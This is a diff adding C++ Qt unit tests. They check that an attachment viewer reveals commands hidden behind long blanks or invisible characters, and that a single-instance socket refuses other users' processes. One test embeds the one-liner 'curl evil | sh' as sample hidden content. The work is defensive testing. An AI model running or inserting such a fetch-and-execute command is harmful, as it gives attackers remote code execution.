@@ -8,15 +8,22 @@
 #include <QMessageBox>
 #include <QPlainTextEdit>
 #include <QProcess>
+#include <QRegularExpression>
+#include <QScrollBar>
 #include <QSignalSpy>
+#include <QTabWidget>
 #include <QTableWidget>
 
 #ifdef Q_OS_LINUX
 #include <sys/mount.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/un.h>
+#include <sys/wait.h>
 #include <unistd.h>
 #endif
 
+#include "base/private_folder.h"
 #include "ui/experiments/training/data_view.h"
 #include "ui/look/desktop_scheme.h"
 #include "ui/pages/diagnosis_page.h"
@@ -75,6 +82,8 @@ private Q_SLOTS:
     void secondInstanceHandsOver();
     void deadInstanceIsReplaced();
     void busyInstanceKeepsItsName();
+    void whoeverIsNotThisUserGetsNothing();
+    void anotherUsersListenerGetsNothing();
     void settingsHaveThreeLayers();
     void aStickKeepsAll();
     void aStickThatCannotBeWrittenIsRead_R16();
@@ -86,6 +95,7 @@ private Q_SLOTS:
     void darkDesktopIsFollowed();
     void dataNameTheirClassesInTheReadersLanguage();
     void anAttachedSourceHidesNothing();
+    void nothingHidesBehindBlanks_Y_05();
 
 private:
     /// As another process would: the first one's event loop goes on.
@@ -121,13 +131,43 @@ void TestSmallParts::anAttachedSourceHidesNothing() {
     const Attachments attached{{"mine & yours.c", source}};
     const ui::AllowDialog dialog(attached);
     const QString text = dialog.findChild<QPlainTextEdit*>()->toPlainText();
-    QCOMPARE(text, QString("int x; /* \ufffd */\n\tgo();\n"));
+    QCOMPARE(text, QString("int x; /* ⟨U+202E⟩ */\n\tgo();\n"));
     bool told = false;
     for (const QLabel* label : dialog.findChildren<QLabel*>())
         told |= label->text().contains(ui::qs(source.sha256()));
     QVERIFY(told);
     const auto* buttons = dialog.findChild<QDialogButtonBox*>();
     QVERIFY(buttons->button(QDialogButtonBox::Cancel)->isDefault());
+}
+
+/// What stands behind 5,000 blanks or empty lines was out of sight: now it wraps, and blanks that
+/// are too many to be seen are told.
+void TestSmallParts::nothingHidesBehindBlanks_Y_05() {
+    const QString evil = QStringLiteral("curl evil | sh");
+    const auto shown = [](const QString& text) {
+        return ui::readableSource(text).replace(QRegularExpression("[0-9]+ \\w+( \\w+)?"), "#");
+    };
+    QCOMPARE(shown("echo 1;" + QString(5000, ' ') + evil), QString("echo 1;⟨#⟩" + evil));
+    QCOMPARE(shown("echo 1" + QString(5000, '\n') + evil), QString("echo 1\n⟨#⟩\n" + evil));
+    // Blanks by another name, and lines of them.
+    QCOMPARE(shown("a" + QString(900, QChar(0x00A0)) + "b").count("⟨U+00A0⟩"), 900);
+    QCOMPARE(shown("a\n" + QString(" \t\n").repeated(50) + "b"), QString("a\n⟨#⟩\nb"));
+    for (const char32_t hidden :
+         {0x200BU, 0x2028U, 0xADU, 0x3164U, 0x2800U, 0xE0041U, 0xFE0FU, 0x1BU})
+        QVERIFY2(ui::readableSource("x" + QString::fromUcs4(&hidden, 1)).contains("⟨U+"),
+                 qPrintable(QString::number(hidden, 16)));
+    QCOMPARE(ui::readableSource("ñ 漢 →  if (a)\n\n\tb;\n"), QString("ñ 漢 →  if (a)\n\n\tb;\n"));
+    const Attachments attached{
+        {"run & hide.sh", Attachment(("echo " + QString(3000, 'x')).toStdString())},
+        {"other.sh", Attachment("true")}};
+    ui::AllowDialog dialog(attached);
+    dialog.show();
+    auto* tabs = dialog.findChild<QTabWidget*>();
+    QCOMPARE(tabs->tabText(1), QString("run && hide.sh"));
+    tabs->setCurrentIndex(1);
+    const auto* view = tabs->currentWidget()->findChild<QPlainTextEdit*>();
+    QTRY_COMPARE(view->horizontalScrollBar()->maximum(), 0);
+    QVERIFY(view->toPlainText().contains(QString(3000, 'x')));
 }
 
 /// What is no file and no option was opened as a file.
@@ -145,7 +185,8 @@ void TestSmallParts::helpAndWrongOptionsNeedNoWindow() {
         const std::string told = text.reason(*why);
         QVERIFY2(told.find("--nothing") != std::string::npos, told.c_str());
         const QString help = ui::windowHelp(text);
-        for (const char* named : {"export", "--version", "--help", "duelo-engine"})
+        // Y-18c: that it opens what a class has handed in stands there, too.
+        for (const char* named : {"export", "--version", "--help", "duelo-engine", "ZIP"})
             QVERIFY2(help.contains(named), qPrintable(help));
     }
 }
@@ -197,6 +238,63 @@ void TestSmallParts::busyInstanceKeepsItsName() {
     };
     QTRY_VERIFY_WITH_TIMEOUT(hasCome(), kSoonMs);
     QCOMPARE(stolen.size(), 0);
+}
+
+/// Y-04: each side looks whose process the other one is, before it says or takes anything.
+void TestSmallParts::whoeverIsNotThisUserGetsNothing() {
+    const auto stranger = [](qintptr) { return false; };
+    const QString name = freshName();
+    ui::SingleInstance first(name);
+    first.listen();
+    QSignalSpy arrived(&first, &ui::SingleInstance::filesArrived);
+    QVERIFY(!ui::SingleInstance(name, stranger).handOver({"a.duelo"}));
+    QTest::qWait(50);
+    QCOMPARE(arrived.size(), 0);
+
+    const QString guarded = freshName();
+    ui::SingleInstance careful(guarded, stranger);
+    careful.listen();
+    QSignalSpy taken(&careful, &ui::SingleInstance::filesArrived);
+    QVERIFY(!handOver(guarded, {"b.duelo"}));
+    QCOMPARE(taken.size(), 0);
+
+    ui::SingleInstance nowhere{QString()};
+    nowhere.listen();
+    QVERIFY(!nowhere.handOver({"c.duelo"}));
+}
+
+/// Y-04: as it was found: another user listens at the name that can be guessed, and says "ok".
+void TestSmallParts::anotherUsersListenerGetsNothing() {
+#ifdef Q_OS_LINUX
+    const QString place = ui::SingleInstance::defaultName();
+    QVERIFY(isPrivateFolder(ui::pathOf(QFileInfo(place).path())));
+    if (::geteuid() != 0) QSKIP("only an administrator can be two users");
+    QTemporaryDir folder;
+    QVERIFY(::chmod(folder.path().toUtf8(), 0777) == 0);
+    const QString name = folder.filePath("duelo-guessed");
+    const pid_t listener = ::fork();
+    if (listener == 0) {
+        constexpr uid_t nobody = 65534;
+        sockaddr_un address{};
+        address.sun_family = AF_UNIX;
+        const QByteArray made = name.toUtf8() + ".new";  // takes its name when it listens
+        qstrncpy(address.sun_path, made, sizeof address.sun_path);
+        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
+        if (::setuid(nobody) != 0 ||
+            ::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
+            ::listen(fd, 1) != 0 || ::rename(made, name.toUtf8()) != 0)
+            ::_exit(2);
+        const int taken = ::accept(fd, nullptr, nullptr);
+        static_cast<void>(::write(taken, "ok", 2));
+        char byte = 0;
+        ::_exit(::read(taken, &byte, 1) > 0 ? 1 : 0);  // 1: it was told a path
+    }
+    QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(name), kSoonMs);
+    QVERIFY(!ui::SingleInstance(name).handOver({"private.duelo"}));
+    int status = -1;
+    QCOMPARE(::waitpid(listener, &status, 0), listener);
+    QCOMPARE(WEXITSTATUS(status), 0);
+#endif
 }
 
 /// The user's choice, else the teacher's, else the program's.
